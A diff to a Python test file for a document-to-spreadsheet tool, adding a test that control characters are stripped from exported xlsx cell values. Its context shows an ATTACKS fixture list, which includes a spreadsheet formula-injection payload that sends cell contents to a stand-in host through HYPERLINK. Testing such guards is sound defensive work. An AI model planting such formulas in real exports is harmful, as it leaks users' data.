@@ -14,7 +14,7 @@ from openpyxl import Workbook, load_workbook
 from hyoka.ingest.workbook import read_workbook, write_workbook
 from hyoka.interchange import parse_document
 from hyoka.plans.demo import demo_files
-from hyoka.safecells import csv_value, needs_guard, unguard, xlsx_text
+from hyoka.safecells import csv_value, needs_guard, unguard, xlsx_text, xlsx_value
 
 ATTACKS = [
     '=HYPERLINK("http://example.com/?x="&A1,"click")',
@@ -88,3 +88,12 @@ def _walk(sections):
     for s in sections:
         yield s
         yield from _walk(s.sections)
+
+
+def test_control_characters_are_left_out_of_xlsx_instead_of_failing_the_export():
+    doc = parse_document(next(p for p in demo_files() if p.stem == "iruma_strategy_h29").read_bytes())
+    project = next(p for s in _walk(doc.sections) for p in s.projects)
+    project.name = "企業\x01誘致\x00事業"
+    assert xlsx_value(project.name) == "企業誘致事業"
+    back = read_workbook(write_workbook(doc), "exported.xlsx").document
+    assert next(p for s in _walk(back.sections) for p in s.projects).name == "企業誘致事業"
